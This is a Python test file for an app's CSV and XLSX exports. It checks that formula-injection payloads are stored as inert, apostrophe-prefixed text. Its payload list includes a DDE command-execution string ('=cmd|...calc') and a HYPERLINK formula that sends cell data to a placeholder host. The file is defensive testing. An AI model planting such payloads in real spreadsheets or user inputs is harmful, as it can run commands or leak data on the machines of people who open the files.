"""Spreadsheet safety: formula-injection payloads come out as inert text in CSV and XLSX exports."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime, timezone

import pytest
from openpyxl import load_workbook

from idmx import clock
from idmx.db import Database
from idmx.db import models as m
from idmx.exports import services as data
from idmx.formats.safety import TRIGGERS, csv_lines, neutralise
from idmx.formats.xlsx import Sheet, write_xlsx
from idmx.ranking import services as runs
from tests import factories

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1",
    "\r=1",
    "\0=1",
    "  =1",
    "   +cmd",
    '=HYPERLINK("http://example.test/?x="&A1,"Clic")',
    "-1",
    "@",
    "=",
]
# PostgreSQL cannot store NUL in text (and SQLite's length() stops at it): the NUL payload is tested
# on the writers directly, the others also through the database.
DB_PAYLOADS = [p for p in PAYLOADS if "\0" not in p]


def _inert(text: str) -> bool:
    """A text cell is safe when, after leading spaces, it does not start with a trigger."""
    return not text.lstrip(" ").startswith(TRIGGERS)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text and text != ""


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_covers_every_trigger(payload):
    assert neutralise(payload).startswith("'") and _inert(neutralise(payload))
    assert neutralise("Calidad del aire") == "Calidad del aire"
    assert neutralise(-0.5) == -0.5 and neutralise(3) == 3 and neutralise(None) is None


def _world(db: Database):
    c = factories.consultation(db, "formulas", phase="closed", voting_method=m.VotingMethod.rating)
    titles = [p if len(p) >= 5 else p + " (datos)" for p in DB_PAYLOADS]
    with db.write() as s:
        ids = []
        for i, title in enumerate(titles):
            p = m.Proposal(consultation_id=c.id, title=title, description=DB_PAYLOADS[-1 - i], intended_use=DB_PAYLOADS[i])
            s.add(p)
            s.flush()
            ids.append(p.id)
        for i in range(6):
            r = m.Respondent(consultation_id=c.id, token_hash=f"{i:064x}")
            s.add(r)
            s.flush()
            s.add_all([m.Vote(consultation_id=c.id, proposal_id=pid, respondent_id=r.id, value=1 + (i + j) % 5)
                       for j, pid in enumerate(ids)])
    run = runs.run_for_consultation(db, c.id)
    return c, run


def test_every_text_cell_of_the_csv_exports_is_inert(db: Database, client):
    c, _run = _world(db)
    info = data.package_info(db, c.slug)
    with zipfile.ZipFile(io.BytesIO(b"".join(data.zip_chunks(db, info)))) as zf:
        bodies = {n: zf.read(n) for n in zf.namelist() if n.endswith(".csv")}
    bodies["results.csv"] = client.get(f"/c/{c.slug}/results/ranking.csv").content
    bodies["web-proposals.csv"] = client.get(f"/c/{c.slug}/data/proposals.csv").content
    text_cells = 0
    for name, body in bodies.items():
        for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")):
            for cell in row:
                if _is_number(cell):
                    continue  # numbers stay numbers: a negative score is still -0.5
                text_cells += 1
                assert _inert(cell), (name, cell)
    assert text_cells > 3 * len(DB_PAYLOADS)
    proposals = bodies["proposals.csv"].decode("utf-8-sig")
    assert "'=cmd|' /C calc'!A0" in proposals and "'  =1" in proposals  # kept, only made inert
    # Negative numbers written by csv_lines are left alone.
    assert "".join(csv_lines(["x"], [[-0.5], ["-0.5"]], bom=False)) == "x\r\n-0.5\r\n'-0.5\r\n"
    # And every payload, NUL included, through the CSV writer itself.
    body = "".join(csv_lines(["p"], [[p] for p in PAYLOADS], bom=False))
    cells = [row[0] for row in csv.reader(io.StringIO(body, newline=""))][1:]
    assert len(cells) == len(PAYLOADS) and all(_inert(x) and x.startswith("'") for x in cells)


def _check_workbook(payload: bytes) -> list:
    wb = load_workbook(io.BytesIO(payload))
    seen = []
    for ws in wb.worksheets:
        assert ws.freeze_panes == "A2"
        assert all(cell.font.b for cell in ws[1])
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert _inert(cell.value), (cell.coordinate, cell.value)
                seen.append(cell.value)
    return seen


def test_xlsx_writer_types_cells_and_neutralises_text(tmp_path):
    rows = [[p, -0.5, -3, date(2027, 3, 1), datetime(2027, 3, 1, 12, 30, tzinfo=timezone.utc), None, True] for p in PAYLOADS]
    buf = io.BytesIO()
    write_xlsx(buf, [Sheet("Fórmulas", ["texto", "puntaje", "entero", "fecha", "momento", "vacío", "sí"], rows)])
    values = _check_workbook(buf.getvalue())
    wb = load_workbook(io.BytesIO(buf.getvalue()))
    ws = wb.worksheets[0]
    second = [c for c in ws[2]]
    assert second[1].value == -0.5 and second[1].data_type == "n"  # negative numbers stay numbers
    assert second[2].value == -3 and second[2].data_type == "n"
    assert second[3].value == datetime(2027, 3, 1) and second[3].is_date and second[3].number_format == "yyyy-mm-dd"
    assert second[4].value == datetime(2027, 3, 1, 12, 30) and second[4].is_date
    assert second[5].value is None and second[6].value is True
    assert "'=cmd|' /C calc'!A0" in values and "'=1" in values  # NUL dropped (XLSX cannot hold it), still inert


def test_proposals_xlsx_download_is_inert(db: Database, client):
    c, _run = _world(db)
    r = client.get(f"/c/{c.slug}/data/proposals.xlsx")
    assert r.status_code == 200 and r.headers["content-type"].startswith("application/vnd.openxmlformats")
    values = _check_workbook(r.content)
    assert "'@SUM(1,1)" in values
    wb = load_workbook(io.BytesIO(r.content))
    ids = [row[0].value for row in wb.worksheets[0].iter_rows(min_row=2)]
    assert all(isinstance(i, int) for i in ids) and len(ids) == len(DB_PAYLOADS)


# --- plans and compliance (idmx.plans.plan_export, idmx.exports.compliance_export) ------------------------------


def _plan_payload_world(db: Database) -> None:
    """SEMARNAT's plan holds every payload in titles, descriptions, denial explanations and catalogue ids."""
    from sqlalchemy import select

    from idmx.plans import policy
    from idmx.plans import services as plan_items
    
    on = clock.today()
    with db.write() as s:
        inst = s.scalar(select(m.Institution.id).where(m.Institution.acronym == "SEMARNAT"))
        basis = s.scalar(select(m.LegalBasis.id).order_by(m.LegalBasis.id).limit(1))
        for i, payload in enumerate(DB_PAYLOADS):
            item = plan_items.create_item(s, institution_id=inst, source=m.PlanSource.own, today=on,
                                     title=payload if len(payload) >= 5 else payload + " (datos)",
                                     description=DB_PAYLOADS[-1 - i])
            if i % 2:
                plan_items.apply_move(s, item, lambda a, p=payload: policy.deny(a, basis, p), actor_id=None)
            else:
                plan_items.apply_move(s, item, lambda a, p=payload: policy.publish(a, "https://datos.gob.mx/x", on, p),
                                 actor_id=None)


def _csv_text_cells(body: bytes) -> list[str]:
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    return [cell for row in rows for cell in row if not _is_number(cell)]


def test_plan_and_compliance_downloads_are_inert(db: Database, client):
    from sqlalchemy import select

    _plan_payload_world(db)
    with db.write() as s:  # an institution name a spreadsheet would run (reference data: restored below)
        inst = s.scalar(select(m.Institution).where(m.Institution.acronym == "SEMARNAT"))
        original, inst.name_es = inst.name_es, '=HYPERLINK("http://example.test","x")'
    try:
        bodies = {url: client.get(url) for url in (
            "/institutions/SEMARNAT/plan.csv", "/institutions/plans.csv", "/monitoring.csv",
            "/institutions/SEMARNAT/plan.xlsx", "/institutions/plans.xlsx", "/monitoring.xlsx",
            "/institutions/SEMARNAT/plan.json")}
    finally:
        with db.write() as s:
            s.scalar(select(m.Institution).where(m.Institution.acronym == "SEMARNAT")).name_es = original
    assert all(r.status_code == 200 for r in bodies.values())
    for url, r in bodies.items():
        if url.endswith(".csv"):
            cells = _csv_text_cells(r.content)
            assert cells and all(_inert(c) for c in cells), (url, [c for c in cells if not _inert(c)])
        elif url.endswith(".xlsx"):
            _check_workbook(r.content)
    plan_csv = bodies["/institutions/SEMARNAT/plan.csv"].content.decode("utf-8-sig")
    assert "'=cmd|' /C calc'!A0" in plan_csv and "'  =1" in plan_csv  # kept, only made inert
    assert "'=HYPERLINK(" in bodies["/institutions/plans.csv"].content.decode("utf-8-sig")
    assert "'=HYPERLINK(" in bodies["/monitoring.csv"].content.decode("utf-8-sig")
    workbook = _check_workbook(bodies["/institutions/plans.xlsx"].content)
    assert "'@SUM(1,1)" in workbook and '\'=HYPERLINK("http://example.test","x")' in workbook
    # JSON is data, not a spreadsheet: the text is exactly what was written.
    titles = [i["title"] for i in bodies["/institutions/SEMARNAT/plan.json"].json()["items"]]
    assert "=cmd|' /C calc'!A0" in titles
